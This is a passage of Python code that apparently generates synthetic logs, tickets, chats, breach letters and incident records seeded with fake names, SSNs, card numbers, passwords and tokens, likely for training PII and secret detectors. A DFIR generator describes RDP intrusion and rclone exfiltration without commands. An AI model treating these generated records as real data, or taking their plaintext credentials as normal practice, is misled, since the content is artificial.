    p = person(rng)
    if chance(rng, 0.6):
        b("Started by user ", PER(p.full), "\n")
    else:
        b("Started by user ", PER(p.full), f" ({username(rng, p)})\n")
    b(f"Running as SYSTEM\nBuilding on the built-in node in workspace /var/jenkins_home/workspace/{rng.choice(['deploy-prod', 'nightly-etl', 'release'])}\n")
    b(f"The recommended git tool is: NONE\nusing credential {_uuid(rng)}\n")
    b(f" > git fetch --tags --force --progress -- ", URL(f"https://git.{dom}/platform/{rng.choice(['etl', 'deploy', 'billing'])}.git"), " +refs/heads/*:refs/remotes/origin/* # timeout=10\n")
    b(f"Checking out Revision {sha1(rng)} (refs/remotes/origin/main)\n")
    b(f"Commit message: \"{rng.choice(['hotfix db timeout', 'bump version', 'update creds'])}\"\n[Pipeline] withCredentials\nMasking supported pattern matches of $DB_PASS or $API_KEY\n")
    b("[Pipeline] sh\n+ set -x\n")
    dsn_pw = password(rng, "dsn")
    dbh = rng.choice([None, ip_priv(rng)])
    b("+ export DATABASE_URL=postgresql://etl_user:", PWD(dsn_pw), "@", *( [IPA(dbh)] if dbh else [f"{hostname(rng, 'db')}.{dom}"]), f":5432/warehouse\n")
    b("+ python etl.py --since yesterday\n")
    b(f"INFO  connecting to warehouse ... ok ({rng.randint(20, 900)} ms)\n")
    if chance(rng, 0.6):
        b("+ curl -X POST -H \"X-Api-Key: ", GSC(generic_secret(rng)[1]), "\" ", URL(f"https://api.{dom}/v1/hooks/etl-complete"), "\n")
    if chance(rng, 0.5):
        b("+ aws configure set aws_access_key_id ", AKY(aws_ak(rng)), "\n")
    b("****\n[Pipeline] }\n[Pipeline] // withCredentials\n")
    b(f"Finished: {rng.choice(['SUCCESS', 'FAILURE', 'UNSTABLE'])}\n")
    return b


def k_saml_debug(rng):
    b = B()
    co, dom = company(rng)
    p = person(rng)
    e = email(rng, p, dom)
    t = rdt(rng)
    b(f"{ts_iso(t)} DEBUG [saml2.response] Decoded SAMLResponse ({rng.randint(4000, 9000)} bytes) from IdP:\n")
    idp = rng.choice([f"https://sts.windows.net/{_uuid(rng)}/", f"http://www.okta.com/exk{rs(rng, 17)}", f"https://login.{dom}/realms/corp"])
    acs = f"https://{rng.choice(['app', 'portal', 'wiki', 'crm'])}.{dom}/saml/acs"
    b('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_', hx(rng, 32), '" Version="2.0" IssueInstant="',
      t.strftime("%Y-%m-%dT%H:%M:%S.") + dg(rng, 3) + 'Z" Destination="', URL(acs), '">\n')
    b('  <saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">', URL(idp), "</saml:Issuer>\n")
    b('  <samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>\n')
    b('  <saml:Assertion ID="_', hx(rng, 32), '">\n    <saml:Subject>\n      <saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">',
      EML(e), "</saml:NameID>\n    </saml:Subject>\n    <saml:AttributeStatement>\n")
    attrs = [("givenName", PER(p.first)), ("sn", PER(p.last)), ("displayName", PER(p.full)), ("mail", EML(e)),
             ("groups", f"{_uuid(rng)}"), ("department", rng.choice(["Finance", "Engineering", "Clinical Informatics"])),
             ("mobile", PHN(phone(rng, "en", True)))]
    for name, val in attrs[:rng.randint(4, len(attrs))]:
        b(f'      <saml:Attribute Name="{name}"><saml:AttributeValue>', *X(val), "</saml:AttributeValue></saml:Attribute>\n")
    b("    </saml:AttributeStatement>\n  </saml:Assertion>\n</samlp:Response>\n")
    b(f"{ts_iso(tick(rng, t, 0, 1))} ", rng.choice(["ERROR", "WARN"]), " [saml2.validator] ",
      rng.choice(["Signature validation failed: certificate thumbprint mismatch (expected ", "Audience restriction failed (expected "]),
      sha1(rng).upper() if chance(rng, 0.5) else f"urn:{dom}:sp", ")\n")
    b(f"{ts_iso(tick(rng, t, 0, 1))} INFO  [http] 302 -> ", URL(f"https://{rng.choice(['app', 'portal'])}.{dom}/login?error=saml_invalid&rid={rs(rng, 10)}"),
      " client=", IPA(ip_pub(rng) if chance(rng, 0.5) else ip_priv(rng)), "\n")
    return b


def k_oidc_debug(rng):
    b = B()
    co, dom = company(rng)
    p = person(rng)
    e = email(rng, p, dom)
    t = rdt(rng)
    cid = rs(rng, 20, LOWER + DIG)
    csec = rs(rng, rng.choice([32, 40]), B64URL)
    b("$ curl -s -X POST ", URL(f"https://login.{dom}/oauth2/v1/token"), " \\\n")
    b("    -d grant_type=authorization_code -d code=", rs(rng, 43, B64URL), " \\\n")
    b("    -d redirect_uri=", URL(f"https://app.{dom}/callback"), " \\\n")
    b("    -d client_id=", cid, " -d client_secret=", GSC(csec), "\n")
    at, it = jwt(rng, {"scp": ["openid", "profile", "email"], "cid": cid}), jwt(rng, {"email": e, "name": p.full, "given_name": p.first, "family_name": p.last})
    rt = rs(rng, rng.choice([43, 64]), B64URL)
    J(b, {"token_type": "Bearer", "expires_in": 3600, "access_token": JWT(at), "scope": "openid profile email offline_access",
          "id_token": JWT(it), "refresh_token": GSC(rt)}, 2)
    b("\n\n# decoded id_token payload (jwt.io)\n")
    J(b, {"sub": rs(rng, 20, LOWER + DIG), "email": EML(e), "email_verified": True, "name": PER(p.full), "given_name": PER(p.first),
          "family_name": PER(p.last), "locale": rng.choice(["en-US", "de-DE", "fr-FR"]), "zoneinfo": rng.choice(TZ_IDS),
          "iat": int(epoch(rng)), "exp": int(epoch(rng)), "auth_time": int(epoch(rng)), "amr": ["pwd", "mfa"]}, 2)
    b("\n")
    if chance(rng, 0.5):
        b(f"\n{ts_iso(t)} WARN oidc: nonce mismatch for session {_uuid(rng)}; user-agent=Mozilla/5.0; ip=", IPA(ip_pub(rng)), "\n")
    return b


def k_isp_chat(rng):
    b = B()
    co, dom = company(rng)
    co = rng.choice(["Brightline Telecom", "Northstar Fiber", "Cascade Wireless", "Lakeview Broadband"])
    ag, cu = person(rng), person(rng)
    a = address(rng)
    t = rdt(rng)
    cust_label = rng.choice(["You", "Customer", None])
    b(f"{co} - Live chat transcript\nSession ID: {_uuid(rng)}\nQueue: {rng.choice(['Technical Support', 'Billing', 'Moving Service'])}\n\n")

    def pre(who):
        nonlocal t
        t = tick(rng, t, 10, 120)
        b(f"[{t.strftime('%I:%M:%S %p')}] ")
        if who == "a":
            b(PER(ag.first), ": ")
        elif who == "s":
            b("System: ")
        elif cust_label:
            b(cust_label, ": ")
        else:
            b(PER(cu.first), ": ")

    pre("s")
    b("You are now chatting with ", PER(ag.first), ".\n")
    pre("a")
    b(f"Hi, thanks for contacting {co}! Who do I have the pleasure of speaking with today?\n")
    pre("c")
    b(PER(pname(rng, cu, ("full", "full", "lower"))), rng.choice([", I'm the account holder", "", " here"]), "\n")
    pre("a")
    b("Thanks ", PER(cu.first), ". Could you confirm the account number and the service address?\n")
    pre("c")
    b("acct ", ACC(acct(rng, "telecom")), ", ", ADR(a.one() if chance(rng, 0.5) else a.one().lower()), "\n")
    if chance(rng, 0.7):
        pre("a")
        b("And for security, your date of birth please?\n")
        pre("c")
        b(DOB(fdate(rng, rdob(rng), "en", False)), "\n")
    pre("a")
    iss = rng.choice(["outage", "slow", "billing", "move"])
    if iss in ("outage", "slow"):
        b("I can see the ONT at your address went offline at ", DTM(ftime(rng, rng.randint(0, 23), rng.randint(0, 59), "en")),
          ". Your gateway's WAN address was ", IPA(ip_pub(rng)), " and the LAN side is ", IPA("192.168.1.1"), ".\n")
        pre("c")
        b("yes, lights are red. i already restarted it twice\n")
        pre("a")
        tdt = future_dt(rng, t, (1, 6), hours=[8, 9, 10, 13, 14, 15])
        b("I've booked a technician for ", DTM(fdt(rng, tdt, "en", weekday=chance(rng, 0.5))), ". You'll get a confirmation text at ",
          PHN(phone(rng, "en", True)), ".\n")
        if chance(rng, 0.6):
            pre("a")
            b("I also reset your Wi-Fi password to ", PWD(password(rng, "wifi")), " - you can change it in the app.\n")
    elif iss == "billing":
        b("I see a failed payment on your last bill (", amount(rng, "$", 300), "). Would you like to update the card on file?\n")
        pre("c")
        num = cc_num(rng)
        b("sure, use ", CCN(fmt_cc(rng, num)), "\n")
        pre("a")
        b("Thank you - for your safety, please don't share full card numbers in chat next time. I've updated it to the card ending in ",
          num[-4:], ".\n")
    else:
        na = address(rng)
        b("No problem. What's the new address and the move date?\n")
        pre("c")
        b(ADR(na.one()), ", moving on ", DTM(fdate(rng, (t + _dt.timedelta(days=rng.randint(7, 40))).date())), "\n")
        pre("a")
        b("Great, order ", f"MV-{dg(rng, 7)}", " is placed. Equipment will be shipped to the new address.\n")
    pre("a")
    b("Is there anything else I can help with?\n")
    pre("c")
    b("no thats all, thanks!\n")
    pre("s")
    b(f"Chat ended. Duration {rng.randint(4, 40)} min. Reference {ticket(rng, 'case')}.\n")
    return b


def k_simswap_case(rng):
    b = B()
    co = rng.choice(["Brightline Telecom", "Cascade Wireless", "Northstar Mobile"])
    cu, rep, inv = person(rng), person(rng), person(rng)
    t0 = rdt(rng)
    st, dln = dl_num(rng)
    a = address(rng)
    msisdn = phone(rng, "en", True)
    b(f"{co} Fraud Investigations - Case {ticket(rng, 'case')}\nType: Unauthorized SIM change (port-out / SIM swap)\n")
    b("Investigator: ", PER(inv.full), "\nOpened: ", ts_plain(t0), "\n\n")
    b("Subscriber\n----------\n")
    b("Name: ", PER(pname(rng, cu, ("full", "lf", "upper"))), "\nMSISDN: ", PHN(msisdn), "\nAccount: ", ACC(acct(rng, "telecom")), "\n")
    b("Billing address: ", ADR(a.one()), "\nDate of birth: ", DOB(fdate(rng, rdob(rng), "en", False)), "\n\n")
    b("Event\n-----\n")
    store = city_of(rng)
    b("On ", DTM(fdt(rng, t0 - _dt.timedelta(days=rng.randint(1, 5)), "en")), " a SIM change was performed at the ", LOC(store),
      " retail store (store #", str(rng.randint(100, 9999)), ") by rep ", PER(rep.full), " (employee ", f"E{dg(rng, 6)}", ").\n")
    b("The requester presented a ", US_STATE_NAMES.get(st, st), " driver license no. ", DLN(dln), " in the subscriber's name; the photo does not match.\n")
    b("New ICCID ", iccid(rng), ", device IMEI ", imei(rng), ". Within ", duration(rng),
      " the subscriber's bank sent OTP codes to the new SIM and ", amount(rng, "$", 40000), " was transferred out.\n")
    if chance(rng, 0.5):
        b("Subscriber's email ", EML(email(rng, cu)), " also received a password-reset link from ", IPA(ip_pub(rng)), ".\n")
    b("\nActions\n-------\n")
    b("- SIM reverted, port-out lock enabled, account PIN reset (old PIN ", "****", ").\n")
    b("- CCTV requested from store; law enforcement contact ", PER(person(rng).full), ", ", PHN(phone(rng)), ".\n")
    b("- Follow-up call with subscriber scheduled ", DTM(fdt(rng, future_dt(rng, t0, (1, 4)), "en")), ".\n")
    return b


def k_iot_registration(rng):
    b = B()
    co, dom = company(rng)
    p = person(rng)
    a = address(rng)
    t = rdt(rng)
    did = f"{rng.choice(['thermo', 'cam', 'lock', 'meter', 'gw', 'sensor'])}-{hx(rng, 12)}"
    b(f"{ts_iso(t)} INFO  [device-registry] POST ", URL(f"https://api.{dom}/v2/devices/register"), f" 201 {rng.randint(20, 400)}ms\n")
    b(f"{ts_iso(tick(rng, t, 0, 1))} DEBUG [device-registry] payload:\n")
    lab, key = generic_secret(rng, rng.choice(["bearer", "hex", "hex"]))
    doc = {"deviceId": did, "model": rng.choice(["TH-200", "CamPro 4K", "SmartLock S2", "EM-Meter 3", "Zigbee Hub X"]),
           "firmware": version(rng), "hwRev": f"rev{rng.choice('ABCD')}", "mac": mac(rng), "serial": serial(rng),
           "network": {"ip": IPA(ip_priv(rng)), "publicIp": IPA(ip_pub(rng)) if chance(rng, 0.7) else IPA(ip6(rng)), "ssid": f"{rng.choice(['NETGEAR', 'TP-Link', 'FRITZ!Box-7590', 'xfinitywifi', 'HOME', 'Linksys'])}-{rs(rng, 4, UPPER + DIG)}"},
           "owner": {"name": PER(pname(rng, p, ("full", "full", "lf"))), "email": EML(email(rng, p)), "phone": PHN(phone(rng, "en", True))},
           "installAddress": {"line1": ADR(a.street), "line2": ADR(a.unit) if a.unit else "", "city": LOC(a.city), "state": LOC(a.region), "postalCode": a.postal, "country": "US"},
           "timezone": rng.choice(TZ_IDS[:3]), "registeredAt": int(epoch(rng)),
           "credentials": {"apiKey": GSC(key), "mqttUser": did, "mqttPassword": PWD(password(rng, "dsn")) if chance(rng, 0.6) else "<redacted>"},
           "broker": f"mqtts://mqtt.{dom}:8883"}
    if doc["installAddress"]["line2"] == "":
        del doc["installAddress"]["line2"]
    J(b, doc, 2)
    b("\n")
    b(f"{ts_iso(tick(rng, t, 1, 3))} WARN  [device-registry] credentials logged in DEBUG payload - see {ticket(rng, 'jira')}\n")
    return b


def k_dfir_timeline(rng):
    b = B()
    co, dom = company(rng)
    p = person(rng)
    un = username(rng, p)
    host = hostname(rng, rng.choice(["ws", "lap"]))
    t = rdt(rng)
    att = ip_pub(rng)
    b(f"# Case {ticket(rng, 'jira')} - super timeline (filtered) - host {host}\n# Examiner: ", PER(person(rng).full), "\n")
    b("datetime,timestamp_desc,source,user,message\n")
    rows = [
        lambda: ["Creation Time", "EVTX", un, S("4624 logon type 10 from ", IPA(att))],
        lambda: ["Last Visited Time", "WEBHIST", un, S("Chrome: ", URL(phish_url(rng)))],
        lambda: ["Content Modification Time", "FILE", un, S(f"C:\\Users\\{un}\\Downloads\\Invoice_{dg(rng, 5)}.iso")],
        lambda: ["Creation Time", "PREFETCH", un, S(f"RCLONE.EXE-{hx(rng, 8).upper()}.pf run count {rng.randint(1, 9)}")],
        lambda: ["Recorded Time", "EVTX", "SYSTEM", S("7045 service installed: ", rs(rng, 8, LOWER), ".exe (sha256 ", sha256(rng), ")")],
        lambda: (lambda q: ["Received Time", "OLECF", un, S("Outlook item from ", PER(q.full), " <", EML(email(rng, q)), "> subject 'Invoice overdue'")])(person(rng)),
        lambda: ["Creation Time", "EVTX", un, S("Firewall allowed outbound to ", IPA(ip_pub(rng)), ":443 (rclone.exe)")],
        lambda: ["Modification Time", "REG", un, S("Run key 'OneDriveSync' -> C:\\ProgramData\\svc.exe")],
        lambda: ["Creation Time", "EVTX", un, S("4648 explicit credentials for ", f"CORP\\adm_{un}", " target ", IPA(ip_priv(rng)))],
        lambda: ["Last Access Time", "LNK", un, S(f"\\\\fs01\\HR\\Salaries_{rng.randint(2021, 2024)}.xlsx")],
    ]
    for _ in range(rng.randint(7, 14)):
        t = tick(rng, t, 2, 900)
        r = rng.choice(rows)()
        csv_row(b, [t.strftime("%Y-%m-%dT%H:%M:%S") + "+00:00"] + r)
    b("\n# Summary: initial access via RDP from ", IPA(att), " (", LOC(rng.choice(GEO)[1]), ") using ", PER(p.full), "'s credentials; ",
      "exfiltration via rclone to MEGA suspected. Total dwell time ", duration(rng), ".\n")
    return b


def k_dlp_alert(rng):
    b = B()
    co, dom = company(rng)
    u = person(rng)
    t = rdt(rng)
    pol = rng.choice(["U.S. PII (SSN)", "PCI-DSS card data", "HIPAA PHI", "Financial data - IBAN"])
    b(f"DLP Incident #{rng.randint(10000, 999999)} - Policy: {pol}\n")
    b(f"Severity: {rng.choice(['High', 'Medium'])} | Channel: {rng.choice(['Email (Exchange Online)', 'Endpoint - USB', 'Web upload', 'Teams chat'])} | Action: {rng.choice(['Blocked', 'Audit', 'Quarantined'])}\n")
    b(f"Detected: {ts_iso(t)}\n")
    b("User: ", PER(pname(rng, u, ("full", "lf"))), " <", EML(email(rng, u, dom)), ">\n")
    b("Recipient / destination: ", rng.choice([[EML(email(rng, person(rng)))], [URL(f"https://drive.google.com/drive/u/0/folders/{rs(rng, 33, B64URL)}")], ["USB: Kingston DataTraveler (VID_0951)"]]), "\n")
    b(f"File: {rng.choice(['employees_export', 'payroll_march', 'patients_q2', 'vendor_master', 'chargebacks'])}.{rng.choice(['xlsx', 'csv', 'pdf'])} ({rng.randint(20, 9000)} KB)\n\n")
    b("Matched content (excerpts):\n")
    for _ in range(rng.randint(2, 4)):
        p = person(rng)
        k = rng.choice(["ssn", "ssn", "cc", "phi", "iban", "mix"])
        b("  ... ")
        if k == "ssn":
            b(PER(pname(rng, p, ("lf", "full", "upper"))), ", SSN ", SSN(fmt_ssn(rng, ssn(rng))), ", DOB ", DOB(fdate(rng, rdob(rng), "en", False)))
        elif k == "cc":
            b(PER(p.full), " | ", CCN(fmt_cc(rng, cc_num(rng))), " | billing zip ", dg(rng, 5))
        elif k == "phi":
            b("MRN ", MRN(mrn(rng)), " ", PER(p.lf.upper() if chance(rng, 0.4) else p.full), " Dx ", rng.choice(["E11.9", "I10", "J45.909", "F32.A"]),
              " member ", HPN(hpn(rng)))
        elif k == "iban":
            b(PER(p.full), "; ", IBN(fmt_iban(rng, iban(rng))), "; BIC ", bic(rng))
        else:
            b(PER(p.full), ", ", ADR(address(rng).one()), ", ", PHN(phone(rng)))
        b(" ...\n")
    b(f"\nMatch count: {rng.randint(3, 4000)} | Confidence: {rng.choice([75, 85, 95])}\n")
    b("Suppressed (validation failed): ", bad_ssn(rng), ", ", luhn_bad(rng), ", ", masked_ssn(rng), ", ", masked_cc(rng), "\n")
    b("Reviewer: ", PER(person(rng).full), f" - status {rng.choice(['Open', 'Escalated to Privacy', 'Closed - business justified'])}\n")
    return b


def _hl7_name(p):
    return f"{p.last.upper()}^{p.first.upper()}" + (f"^{p.mid}" if p.mid else "")


def k_hl7_error(rng):
    b = B()
    co, dom = company(rng)
    co = rng.choice(["MERIDIAN", "CONTOSOHLTH", "STMARY", "VALLEYMED"])
    p, ins = person(rng), person(rng)
    a = address(rng)
    t = rdt(rng)
    dob = rdob(rng)
    b(f"{t.strftime('%Y-%m-%d %H:%M:%S')},{dg(rng, 3)} ERROR [{rng.choice(['ADT_IN', 'ORU_OUT', 'MLLP-Listener-2'])}] ",
      rng.choice(["Message rejected: PID-3 missing assigning authority", "AE returned by receiver: Invalid IN1-36",
                  "Parse error at segment PV1 field 3", "Duplicate control id, message skipped"]), "\n")
    b(f"{t.strftime('%Y-%m-%d %H:%M:%S')},{dg(rng, 3)} DEBUG Raw message follows (peer ", IPA(ip_priv(rng)), f":{rng.choice([6661, 2575, 7001])}):\n")
    ts7 = t.strftime("%Y%m%d%H%M%S")
    b(f"MSH|^~\\&|EPIC|{co}|LAB|{co}|{ts7}||ADT^A0{rng.choice([1, 4, 8])}|MSG{dg(rng, 8)}|P|2.5.1\r\n".replace("\r\n", "\n"))
    b(f"EVN|A08|{ts7}\n")
    b("PID|1||", MRN(mrn(rng)), "^^^", co, "^MR||", PER(_hl7_name(p)), "||", DOB(dob.strftime("%Y%m%d")), f"|{rng.choice('MF')}|||",
      ADR(f"{a.street.upper()}^{(a.unit or '').upper()}^{a.city.upper()}^{a.region}^{a.postal}"), "||", PHN(phone(rng)), "|||||",
      ACC(dg(rng, rng.choice([8, 10]))), "|", SSN(fmt_ssn(rng, ssn(rng), "-")) if chance(rng, 0.5) else "", "\n")
    b(f"PV1|1|{rng.choice(['I', 'O', 'E'])}|{rng.choice(['4W', 'ICU', 'ED', '3E'])}^{rng.randint(100, 499)}^{rng.choice('AB')}||||{dg(rng, 10)}^",
      PER(_hl7_name(person(rng))), "^^^^MD|||||||||||", dg(rng, 9), "\n")
    if chance(rng, 0.7):
        f = [""] * 37
        f[0] = "IN1"
        f[1] = "1"
        f[2] = rs(rng, 3, UPPER) + dg(rng, 3)
        f[3] = dg(rng, 5)
        f[4] = rng.choice(["BLUE CROSS BLUE SHIELD", "AETNA", "UNITEDHEALTHCARE", "CIGNA", "HUMANA"])
        f[8] = dg(rng, 6)
        f[17] = rng.choice(["SEL", "SPO", "CHD"])
        parts = []
        for i, v in enumerate(f):
            if i:
                parts.append("|")
            if i == 16:
                parts.append(PER(_hl7_name(ins)))
            elif i == 18:
                parts.append(DOB(rdob(rng).strftime("%Y%m%d")))
            elif i == 36:
                parts.append(HPN(hpn(rng)))
            else:
                parts.append(v)
        b(*parts, "\n")
    b(f"{tick(rng, t, 0, 2).strftime('%Y-%m-%d %H:%M:%S')},{dg(rng, 3)} INFO  NACK sent, control id MSG{dg(rng, 8)}; retry {rng.randint(1, 5)}/5 in {duration(rng)}\n")
    if chance(rng, 0.5):
        b("\n-- interface analyst note: patient ", PER(pname(rng, p, ("full", "lf"))), " was registered twice in ",
          LOC(a.city), "; merge requested in ", ticket(rng, "snow"), ".\n")
    return b


def k_ehr_ticket(rng):
    b = B()
    co, dom = company(rng)
    co, dom = rng.choice([c for c in COMPANIES["en"] if "Health" in c[0] or "Hospital" in c[0]])
    nurse, pat, ag = person(rng), person(rng), person(rng)
    t = rdt(rng)
    b(f"Ticket {ticket(rng, 'snow')}  |  Category: Clinical Applications > EHR  |  Priority: {rng.choice(['1 - Critical', '2 - High'])}\n")
    b(f"Opened: {ts_plain(t)}  |  Opened by: ", PER(pname(rng, nurse, ("full", "fml"))), ", RN (", EML(email(rng, nurse, dom)), ")\n")
    b("Callback: ", PHN(phone(rng)), " ext. ", str(rng.randint(1000, 9999)), "\n\n")
    b("Description:\n")
    sc = rng.choice(["btg", "wrong", "pyxis", "print"])
    if sc == "btg":
        b(f"Cannot open chart in Epic Hyperspace on {hostname(rng, 'ws')} (nurses' station, {rng.choice(['4 West', '5 North', 'ED pod B'])}). Break-the-glass prompt loops after entering reason. Patient ",
          PER(pname(rng, pat, ("full", "lf", "upper"))), ", MRN ", MRN(mrn(rng)), ", DOB ", DOB(fdate(rng, rdob(rng), "en", False)), ".\n")
    elif sc == "wrong":
        b("Lab result for MRN ", MRN(mrn(rng)), " filed to the wrong encounter. The correct patient is ", PER(pat.full),
          f" (admitted to {rng.choice(['4 West', 'ICU', 'L&D'])}). Order ", dg(rng, 9), f", LOINC {rng.choice(['2345-7', '718-7', '4548-4'])}.\n")
    elif sc == "pyxis":
        b(f"Pyxis MedStation on {rng.choice(['4 West', '3 East', 'ICU', 'L&D', 'PACU'])} (room {rng.randint(100, 480)}) will not release {rng.choice(DRUGS)} for patient ", PER(pat.full),
          " (MRN ", MRN(mrn(rng)), "). Station IP ", IPA(ip_priv(rng)), f", firmware {version(rng)}.\n")
    else:
        b("Wristband printer prints blank labels. Needed for the newborn of ",
          PER(pat.full if chance(rng, 0.5) else pat.lf), ", MRN ", MRN(mrn(rng)), ". Printer ", IPA(ip_priv(rng)), ".\n")
    if chance(rng, 0.5):
        b("Insurance on file: member ID ", HPN(hpn(rng)), f", group {dg(rng, 6)}, plan {rng.choice(['PPO', 'HMO', 'EPO'])}.\n")
    b("\nWork notes:\n")
    b(f"{ts_plain(tick(rng, t, 300, 3600))} ", PER(ag.full), ": ",
      rng.choice(["Cleared Citrix session and user profile cache; BTG works now.", "Escalated to Epic Ambulatory team.",
                  "Reprinted via alternate printer; vendor case opened with Zebra.", "Re-filed result after HIM approval."]), "\n")
    return b


def k_breach_letter(rng):
    b = B()
    co, dom = company(rng)
    co, dom = rng.choice([c for c in COMPANIES["en"] if any(w in c[0] for w in ("Health", "Hospital", "Insurance", "Credit", "Utilities"))])
    p = person(rng)
    ca, pa = address(rng), address(rng)
    t0 = rdt(rng)
    b(f"{co}\n", ADR(ca.multi() if chance(rng, 0.5) else ca.one()), "\n\n")
    b(DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(20, 60))).date(), style=rng.choice(["long", "long", "num"]))), "\n\n")
    b(PER(pname(rng, p, ("full", "fml", "upper"))), "\n", ADR(pa.multi()), "\n\n")
    b(f"Re: Notice of Data Security Incident - Reference {rs(rng, 3, UPPER)}-{dg(rng, 6)}\n\n")
    hon = honorific(rng, p, "en", 0.3)
    b("Dear ", hon, PER(p.last) if hon else PER(p.full), ":\n\n")
    b(f"We are writing to tell you about an incident that may have involved some of your information. On ", DTM(fdate(rng, t0.date())),
      ", we discovered that an unauthorized party accessed an email account used by our billing staff. We immediately secured the account and ",
      "engaged a forensic firm.\n\n")
    b("The review determined that the following information about you may have been involved: your name, address, date of birth (",
      DOB(fdate(rng, rdob(rng), "en", False)), "), Social Security number ending in ", dg(rng, 4), ", and ",
      rng.choice([["health plan member ID ", HPN(hpn(rng))], ["account number ", ACC(acct(rng, "utility"))], ["medical record number ", MRN(mrn(rng))]]),
      ". We have no evidence that your information has been misused.\n\n")
    b(f"As a precaution, we are offering {rng.choice([12, 24])} months of credit monitoring at no cost. Please enroll by ",
      DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(90, 120))).date())), " at ", URL(f"https://{rng.choice(['enroll', 'response'])}.idx.us/{rs(rng, 6, LOWER)}"),
      ".\n\nIf you have questions, call ", PHN(phone(rng, "tollfree")), ", Monday through Friday, ", DTM(f"{rng.choice([8, 9])}:00 AM"), " to ",
      DTM(f"{rng.choice([5, 6, 8])}:00 PM"), " Eastern Time.\n\n")
    b("Sincerely,\n\n", PER(person(rng).full), "\nPrivacy Officer\n")
    return b


def k_vuln_report(rng):
    b = B()
    co, dom = company(rng)
    t0 = rdt(rng)
    b(f"Vulnerability scan summary - scan #{rng.randint(1000, 99999)} ({rng.choice(['Nessus', 'Qualys', 'Rapid7 InsightVM'])} {version(rng)})\n")
    b("Scope owner: ", PER(person(rng).full), "   Remediation SLA for criticals: ", DTM(fdate(rng, (t0 + _dt.timedelta(days=14)).date())), "\n\n")
    b(f"{'Host':<18}{'Owner':<34}{'Finding':<44}{'CVSS':<6}Due\n")
    for _ in range(rng.randint(4, 9)):
        ip = ip_priv(rng)
        o = person(rng)
        fnd = rng.choice([f"{cve(rng)} OpenSSH < 9.6 (Terrapin)", f"{cve(rng)} Apache Log4j RCE", f"{cve(rng)} Windows SMB RCE",
                          "TLS 1.0 enabled", f"{cve(rng)} Citrix ADC buffer overflow", "SSL certificate expired", f"{cve(rng)} nginx {version(rng)}"])
        e = email(rng, o, dom)
        b(IPA(ip), " " * max(1, 18 - len(ip)), EML(e), " " * max(1, 34 - len(e)), fnd[:42].ljust(44), f"{rng.uniform(4, 10):.1f}".ljust(6),
          DTM(fdate(rng, (t0 + _dt.timedelta(days=rng.randint(7, 90))).date(), style="iso")), "\n")
    b(f"\nPlugin feed {epoch(rng)}; {rng.randint(100, 9000)} hosts scanned in {duration(rng)}. Exceptions tracked in ", URL(url(rng, dom, "ticket")), "\n")
    return b


def k_change_request(rng):
    b = B()
    co, dom = company(rng)
    req, impl, app = person(rng), person(rng), person(rng)
    t0 = rdt(rng)
    s = future_dt(rng, t0, (3, 20), hours=[0, 1, 2, 21, 22, 23])
    e = s + _dt.timedelta(hours=rng.randint(1, 4))
    b(f"Change Request {ticket(rng, 'chg')}\n{'=' * 28}\n")
    fields = [("Type", [rng.choice(["Normal", "Standard", "Emergency"])]), ("Requested by", [PER(req.full)]),
              ("Implementer", [PER(pname(rng, impl, ("full", "lf")))]), ("CAB approver", [PER(app.full)]),
              ("Planned start", [DTM(fdt(rng, s, "en"))]), ("Planned end", [DTM(fdt(rng, e, "en"))]),
              ("Risk", [rng.choice(["Low", "Moderate", "High"])]), ("Outage expected", [duration(rng)])]
    for k, v in fields:
        b(f"{k + ':':<18}", *v, "\n")
    b("\nDescription:\n")
    b(f"Upgrade {rng.choice(['core switches', 'firewall cluster', 'F5 load balancers', 'vCenter', 'Exchange hybrid servers'])} to {version(rng)}. Affected CIs:\n")
    for _ in range(rng.randint(2, 4)):
        b(f"  - {hostname(rng, rng.choice(['fw', 'srv']))} ", IPA(ip_priv(rng)), f" ({rng.choice(['primary', 'secondary', 'standby'])})\n")
    b("\nBackout plan: restore config backup taken at T-30 min; rollback takes ", duration(rng), ".\n")
    b("Communication: notify ", LOC(city_of(rng)), " and ", LOC(city_of(rng)), " sites; bridge ", URL(f"https://{dom.split('.')[0]}.zoom.us/j/{dg(rng, 11)}?pwd={rs(rng, 32)}"),
      " (passcode ", PWD(password(rng, "passcode")), ").\n")
    b("On-call vendor contact: ", PER(person(rng).full), ", ", PHN(phone(rng)), "\n")
    return b


def k_pagerduty(rng):
    b = B()
    co, dom = company(rng)
    sub = dom.split(".")[0]
    t = rdt(rng)
    resp = [person(rng) for _ in range(rng.randint(1, 3))]
    inc = {"incident": {"id": rs(rng, 7, UPPER + DIG), "incident_number": rng.randint(1000, 99999),
                        "title": rng.choice(["[FIRING:1] DiskWillFillIn4Hours", "CRITICAL: api latency p99 > 2s", "Host down: " + hostname(rng, "srv")]),
                        "created_at": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "status": rng.choice(["triggered", "acknowledged", "resolved"]),
                        "urgency": "high", "html_url": URL(f"https://{sub}.pagerduty.com/incidents/{rs(rng, 7, UPPER + DIG)}"),
                        "service": {"summary": rng.choice(["checkout-api", "core-network", "identity"]), "id": rs(rng, 7, UPPER + DIG)},
                        "assignments": [{"at": ts_iso(tick(rng, t, 1, 60), ms=False), "assignee": {"summary": PER(p.full), "type": "user_reference",
                                                                                                  "html_url": URL(f"https://{sub}.pagerduty.com/users/{rs(rng, 7, UPPER + DIG)}")}} for p in resp],
                        "body": {"details": S("Triggered by Alertmanager from ", IPA(ip_priv(rng)), "; runbook ", URL(url(rng, dom, "doc")))}}}
    if chance(rng, 0.6):
        inc["incident"]["responder_contacts"] = [{"name": PER(p.full), "email": EML(email(rng, p, dom)), "phone": PHN(phone(rng, "en", True))} for p in resp]
    J(b, inc, 2)
    b("\n")
    return b


def k_slack_export(rng):
    b = B()
    co, dom = company(rng)
    users = [person(rng) for _ in range(rng.randint(2, 4))]
    uids = ["U0" + rs(rng, 8, UPPER + DIG) for _ in users]
    handles = [username(rng, p) for p in users]
    t = rdt(rng)
    msgs = []
    texts = [
        lambda p: S("can someone check ", IPA(ip_priv(rng)), "? getting 502s on the admin panel"),
        lambda p: S("here's the bot token so you can test: ", SLK(slack_tok(rng)), " (will rotate after)"),
